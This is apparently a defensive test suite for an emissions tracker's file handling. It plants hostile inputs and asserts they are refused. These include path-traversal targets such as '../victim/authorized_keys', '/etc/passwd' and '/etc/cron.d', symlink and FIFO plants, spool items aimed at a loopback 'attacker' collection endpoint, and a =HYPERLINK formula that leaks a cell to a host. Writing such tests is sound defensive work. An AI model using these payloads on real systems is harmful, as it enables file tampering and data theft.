/**
 * Files planted in a shared output or notebook folder, as a careless or hostile neighbour would:
 * checkpoints that name files elsewhere, symlinks, FIFOs, another user's files, huge files,
 * spool items bound for another server, a live-feed folder that is a symlink, a stray quote in
 * the CSV. Every case runs against a victim folder beside the output folder, whose files must
 * stay exactly as they were, and loopback servers that count what reaches them.
 */
import { after, describe, test } from "node:test";
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { checkpointDir, recoverOrphanedRuns, type RunCheckpoint } from "../../src/output/checkpoint";
import { currentProcessIdentity } from "../../src/fs/process-identity";
import { readEmissionsCsv, writeEmissionsRow } from "../../src/output/csv-file";
import { Spool, type NewSpoolItem } from "../../src/api/spool";
import { Uploader } from "../../src/api/uploader";
import { cleanOldFeeds, createLiveFeedSink } from "../../src/notebook/live-feed-sink";
import { makeRow, makeTaskRow } from "../output/fixture-rows";
import { captureLog } from "../helpers/log-capture";
import { startLoopbackServer, type LoopbackServer } from "../helpers/loopback-server";
import { hostileString, pick, snapshot, Tally, touched } from "./tally";
import { seededRandom } from "../helpers/seeded-random";

const tally = new Tally("planted files");
after(() => console.log(tally.line()));

const RUN_ID = "44444444-4444-4444-8444-444444444444";
const API_KEY = "cpt_project-key-0123456789";
const isRoot = process.getuid?.() === 0;

/** A fresh output folder and a victim folder beside it, holding files nobody may touch. */
function arena(): { out: string; victim: string; root: string; cleanup: () => void } {
  const root = fs.mkdtempSync(path.join(os.tmpdir(), "cc-planted-"));
  const out = path.join(root, "out");
  const victim = path.join(root, "victim");
  fs.mkdirSync(out);
  fs.mkdirSync(victim);
  fs.writeFileSync(path.join(victim, "authorized_keys"), "ssh-ed25519 AAAA legit@host\n");
  fs.writeFileSync(
    path.join(victim, "notes.json"),
    JSON.stringify({ pid: 2 ** 22 + 1, updatedAt: "2000-01-01T00:00:00Z" }),
  );
  fs.writeFileSync(path.join(victim, "emissions.csv"), "not yours\n");
  return { out, victim, root, cleanup: () => fs.rmSync(root, { recursive: true, force: true }) };
}

/** A pid whose process is gone: one short child, spawned once for the whole file. */
let gonePid: number | undefined;
function deadPid(): number {
  gonePid ??= spawnSync(process.execPath, ["-e", ""]).pid!;
  return gonePid;
}

function checkpointFor(out: string, overrides: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    version: 1,
    runId: RUN_ID,
    ...currentProcessIdentity(),
    pid: deadPid(),
    target: { outputDir: out, outputFile: "emissions.csv", onCsvWrite: "append" },
    row: makeRow({ run_id: RUN_ID, project_name: "planted", duration: 3 }),
    taskRows: [],
    taskFile: null,
    updatedAt: new Date().toISOString(),
    ...overrides,
  } satisfies Partial<Record<keyof RunCheckpoint, unknown>>;
}

const plantCheckpoint = (out: string, content: string | Record<string, unknown>, name = `${RUN_ID}.json`) => {
  fs.mkdirSync(checkpointDir(out), { recursive: true });
  const file = path.join(checkpointDir(out), name);
  fs.writeFileSync(file, typeof content === "string" ? content : JSON.stringify(content));
  return file;
};

/** Runs `body` in a fresh arena; counts files touched outside the output folder, and throws as a crash. */
async function attempt(what: string, body: (a: ReturnType<typeof arena>) => Promise<void>): Promise<void> {
  const a = arena();
  const log = captureLog();
  tally.inputs += 1;
  try {
    const before = snapshot(a.victim);
    await body(a);
    for (const file of touched(before, snapshot(a.victim))) tally.fail("filesTouchedOutside", `${what}: ${file}`);
    const everything = [...snapshot(a.root).keys()].filter((f) => fs.lstatSync(f).isFile());
    for (const file of everything)
      if (fs.readFileSync(file, "utf8").includes(API_KEY)) tally.fail("secretsSentOrWritten", `${what}: ${file}`);
  } catch (error) {
    tally.fail("crashes", `${what}: ${error instanceof Error ? (error.stack ?? error.message) : String(error)}`);
  } finally {
    log.restore();
    a.cleanup();
  }
}

const csvRows = async (out: string) => {
  try {
    return await readEmissionsCsv(path.join(out, "emissions.csv"));
  } catch {
    return [];
  }
};

describe("planted checkpoints", () => {
  test("a checkpoint cannot choose the file recovery writes", async () => {
    const targets = [
      "../victim/authorized_keys",
      "/etc/passwd",
      "../../../../tmp/x.csv",
      "..",
      "emissions.csv/../../victim/emissions.csv",
    ];
    for (const outputFile of targets) {
      await attempt(`target.outputFile ${outputFile}`, async ({ out }) => {
        plantCheckpoint(
          out,
          checkpointFor(out, {
            target: { outputDir: "../victim", outputFile, onCsvWrite: "update" },
            taskFile: `../victim/emissions_base_${RUN_ID}.csv`,
            taskRows: [makeTaskRow("t1")],
          }),
        );
        const recovered = await recoverOrphanedRuns(out);
        // Recovered into this tracker's CSV, in the folder the checkpoint was found in.
        assert.deepEqual(recovered, [{ runId: RUN_ID, file: path.join(out, "emissions.csv") }]);
        const rows = await csvRows(out);
        if (rows.length === 0) tally.fail("rowsLost", outputFile);
        if (rows.length > 1) tally.fail("rowsDuplicated", outputFile);
        assert.ok(fs.existsSync(path.join(out, `emissions_base_${RUN_ID}.csv`)));
      });
    }
  });

  test("symlinks, FIFOs, another user's files, huge and torn files are ignored, never followed", async () => {
    const plants: Array<[string, (out: string, victim: string) => void]> = [
      [
        "a symlink to a checkpoint elsewhere",
        (out, victim) => {
          const elsewhere = path.join(victim, "..", "elsewhere.json");
          fs.writeFileSync(elsewhere, JSON.stringify(checkpointFor(out)));
          fs.mkdirSync(checkpointDir(out), { recursive: true });
          fs.symlinkSync(elsewhere, path.join(checkpointDir(out), `${RUN_ID}.json`));
        },
      ],
      [
        "a FIFO",
        (out) => {
          fs.mkdirSync(checkpointDir(out), { recursive: true });
          spawnSync("mkfifo", [path.join(checkpointDir(out), `${RUN_ID}.json`)]);
        },
      ],
      ["a sparse 100 MB file", (out) => fs.truncateSync(plantCheckpoint(out, ""), 100 * 1024 * 1024)],
      ["a torn file", (out) => plantCheckpoint(out, JSON.stringify(checkpointFor(out)).slice(0, 300))],
      ["a run id that is not its file name", (out) => plantCheckpoint(out, checkpointFor(out, { runId: "other" }))],
      ["a row of another run", (out) => plantCheckpoint(out, checkpointFor(out, { row: makeRow({ run_id: "x" }) }))],
      ["pid 0", (out) => plantCheckpoint(out, checkpointFor(out, { pid: 0 }))],
      [
        "a 100 000-character cell",
        (out) =>
          plantCheckpoint(
            out,
            checkpointFor(out, { row: makeRow({ run_id: RUN_ID, project_name: "x".repeat(100_000) }) }),
          ),
      ],
      [
        "a task file with a path",
        (out) =>
          plantCheckpoint(
            out,
            checkpointFor(out, { taskFile: "/etc/cron.d/emissions_x_y.csv", taskRows: [makeTaskRow("t")] }),
          ),
      ],
      [
        "a lock that is a symlink",
        (out, victim) => {
          plantCheckpoint(out, checkpointFor(out));
          fs.symlinkSync(path.join(victim, "authorized_keys"), path.join(checkpointDir(out), `${RUN_ID}.json.lock`));
        },
      ],
    ];
    if (isRoot)
      plants.push([
        "another user's checkpoint",
        (out) => {
          const file = plantCheckpoint(out, checkpointFor(out));
          fs.chownSync(file, 65534, 65534);
        },
      ]);
    else console.log("skipped the other-user checkpoint case: chown needs root");
    for (const [what, plant] of plants) {
      await attempt(what, async ({ out, victim }) => {
        plant(out, victim);
        await recoverOrphanedRuns(out);
        const rows = await csvRows(out);
        for (const row of rows)
          if (row["run_id"] === RUN_ID && what !== "a lock that is a symlink")
            tally.fail("crashes", `${what}: recovered`);
      });
    }
    assert.equal(tally.failures(), 0, tally.problems.join("\n"));
  });

  test("fuzzed checkpoints, fixed seed: recovered at most once, inside the folder, never a crash", async () => {
    const random = seededRandom(2024);
    const junk = () =>
      pick(random, [
        hostileString(random),
        `../${hostileString(random, 8)}`,
        -1,
        1e308,
        null,
        true,
        [],
        { outputFile: "../victim/authorized_keys" },
        "x".repeat(5000),
        Math.floor(random() * 1e6),
      ]);
    for (let i = 0; i < 150; i++) {
      await attempt(`fuzzed checkpoint ${i}`, async ({ out }) => {
        const checkpoint = checkpointFor(out, {
          taskRows: [makeTaskRow("a")],
          taskFile: `emissions_base_${RUN_ID}.csv`,
        });
        const keys = Object.keys(checkpoint);
        for (let k = 0; k < 1 + Math.floor(random() * 3); k++) {
          const key = pick(random, keys);
          if (key === "row" && random() < 0.7) {
            const row = { ...(checkpoint["row"] as Record<string, unknown>) };
            row[pick(random, Object.keys(row))] = junk();
            checkpoint["row"] = row;
          } else checkpoint[key] = junk();
        }
        plantCheckpoint(out, checkpoint);
        await recoverOrphanedRuns(out);
        const rows = await csvRows(out);
        if (rows.length > 1) tally.fail("rowsDuplicated", `fuzzed checkpoint ${i}`);
        const entries = fs.readdirSync(out).filter((name) => name !== ".codecarbon");
        for (const name of entries)
          if (name !== "emissions.csv" && !/^emissions_.*\.csv(\.lock)?$/.test(name))
            tally.fail("filesTouchedOutside", `unexpected ${name}`);
      });
    }
    assert.equal(tally.failures(), 0, tally.problems.join("\n"));
  });
});

describe("planted spool items", () => {
  let attacker: LoopbackServer;
  let api: LoopbackServer;
  after(async () => {
    await attacker?.close();
    await api?.close();
  });

  test("items bound elsewhere are never sent, and never with this configuration's key", async () => {
    attacker = await startLoopbackServer(() => ({ status: 200, json: { id: "stolen" } }));
    let poisoned = 0;
    api = await startLoopbackServer((request) => {
      if (request.body.includes("poison")) {
        poisoned += 1;
        return { status: 500, text: "boom" };
      }
      if (request.path.endsWith("/runs")) return { status: 201, json: { id: "11111111-1111-4111-8111-111111111111" } };
      return { status: 201, json: {} };
    });
    await attempt("planted spool", async ({ out }) => {
      const spool = new Spool(out);
      const foreign: NewSpoolItem[] = [
        { kind: "http", url: `${attacker.url}/collect`, body: { steal: true } },
        { kind: "run", runKey: "r-evil", endpoint: attacker.url, body: {} as never },
        { kind: "emission", runKey: "r-evil", endpoint: attacker.url, body: {} as never },
        // The right endpoint, spooled under another key.
        { kind: "http", url: `${api.url}/collect`, auth: "0000000000000000", body: { other: "key" } },
      ];
      await spool.append(foreign);
      // One item the server always fails on, then a good one: the bad one must not block it.
      await spool.append([
        { kind: "http", url: `${api.url}/collect`, body: { poison: true } },
        { kind: "http", url: `${api.url}/collect`, body: { good: 1 } },
      ]);
      const uploader = new Uploader({
        spool,
        destinations: { api: api.url, http: `${api.url}/collect` },
        apiKey: API_KEY,
        timeoutMs: 2000,
        env: {},
      });
      for (let i = 0; i < 3; i++) await uploader.drain(5000, 2);
      tally.inputs += foreign.length + 1;
      if (attacker.requests.length > 0)
        tally.fail("secretsSentOrWritten", `${attacker.requests.length} request(s) reached the attacker`);
      const good = api.requests.filter((r) => r.body.includes('"good"'));
      if (good.length !== 1)
        tally.fail(good.length === 0 ? "rowsLost" : "rowsDuplicated", `the good item arrived ${good.length} times`);
      if (api.requests.some((r) => r.body.includes('"other"')))
        tally.fail("secretsSentOrWritten", "another key's item was sent");
      assert.ok(poisoned >= 1);
      const rejected = fs.readFileSync(spool.rejectedFile, "utf8");
      assert.match(rejected, /poison/);
      if (process.platform !== "win32") {
        assert.equal(fs.statSync(spool.file).mode & 0o777, 0o600);
        assert.equal(fs.statSync(spool.rejectedFile).mode & 0o777, 0o600);
      }
      // The foreign items are kept for their own configuration.
      assert.equal((await spool.read()).length, foreign.length);
    });
    assert.equal(tally.failures(), 0, tally.problems.join("\n"));
  });
});

describe("the live-feed folder and the CSV", () => {
  test("a live-feed folder that is a symlink is refused; cleaning never follows it", async () => {
    await attempt("live-feed symlink", async ({ out, victim }) => {
      const folder = path.join(out, "codecarbon-live");
      fs.symlinkSync(victim, folder);
      assert.deepEqual(cleanOldFeeds(folder, Date.now() + 30 * 24 * 3600_000), []);
      assert.throws(
        () =>
          createLiveFeedSink({
            file: path.join(folder, "k.json"),
            kernelId: "k",
            runId: "r",
            projectName: "p",
            measurePowerSecs: 1,
            pid: process.pid,
            startedAt: new Date().toISOString(),
            csv: null,
          }),
        /symbolic link/,
      );
    });
    assert.equal(tally.failures(), 0, tally.problems.join("\n"));
  });

  test("a stray quote in an earlier cell never makes update mode duplicate a row", async () => {
    await attempt("stray quote", async ({ out }) => {
      const target = { outputDir: out, outputFile: "emissions.csv", onCsvWrite: "update" as const };
      await writeEmissionsRow(makeRow({ run_id: "a", project_name: "fine" }), target);
      const file = path.join(out, "emissions.csv");
      // A hand edit leaves a lone quote in the middle of a cell.
      fs.writeFileSync(file, fs.readFileSync(file, "utf8").replace("fine", 'fi"ne'));
      await writeEmissionsRow(makeRow({ run_id: "b", duration: 1 }), target);
      await writeEmissionsRow(makeRow({ run_id: "b", duration: 2 }), target);
      await writeEmissionsRow(makeRow({ run_id: "b", duration: 3 }), target);
      const lines = fs
        .readFileSync(file, "utf8")
        .split("\n")
        .filter((line) => line.includes(",b,"));
      tally.inputs += 3;
      if (lines.length !== 1) tally.fail("rowsDuplicated", `${lines.length} rows for run b`);
      assert.match(fs.readFileSync(file, "utf8"), /fi"ne/, "the other lines are kept byte for byte");
    });
    assert.equal(tally.failures(), 0, tally.problems.join("\n"));
  });

  test("csv_escape_formulas quotes cells a spreadsheet would run; off, CodeCarbon's format is kept", async () => {
    await attempt("formula cells", async ({ out }) => {
      const formula = '=HYPERLINK("http://127.0.0.1:1/?"&A1,"open")';
      const plain = { outputDir: out, outputFile: "plain.csv", onCsvWrite: "append" as const };
      await writeEmissionsRow(makeRow({ run_id: "f", project_name: formula, cpu_model: "@SUM(1)" }), plain);
      await writeEmissionsRow(makeRow({ run_id: "f", project_name: formula }), {
        ...plain,
        outputFile: "escaped.csv",
        escapeFormulas: true,
      });
      const [plainRow] = await readEmissionsCsv(path.join(out, "plain.csv"));
      const [escapedRow] = await readEmissionsCsv(path.join(out, "escaped.csv"));
      assert.equal(plainRow!["project_name"], formula);
      assert.equal(plainRow!["cpu_model"], "@SUM(1)");
      assert.equal(escapedRow!["project_name"], `'${formula}`);
      assert.equal(escapedRow!["run_id"], "f", "other cells are unchanged");
    });
    assert.equal(tally.failures(), 0, tally.problems.join("\n"));
  });
});
